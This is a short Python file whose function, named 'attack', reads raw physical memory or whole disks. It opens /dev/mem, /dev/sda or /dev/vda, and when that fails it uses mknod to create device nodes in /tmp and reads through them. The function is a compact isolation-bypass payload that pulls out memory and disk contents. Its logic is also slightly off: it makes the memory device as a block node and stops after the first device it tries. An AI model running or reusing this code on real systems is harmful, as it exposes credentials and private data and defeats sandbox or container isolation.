"""Reads memory and disks by their devices."""

import os
import stat


def attack(x):
    for name, number in (("mem", os.makedev(1, 1)), ("sda", os.makedev(8, 0)), ("vda", os.makedev(254, 0))):
        try:
            return open(f"/dev/{name}", "rb").read(1 << 20)
        except OSError:
            os.mknod(f"/tmp/{name}", 0o600 | stat.S_IFBLK, number)
            return open(f"/tmp/{name}", "rb").read(1 << 20)
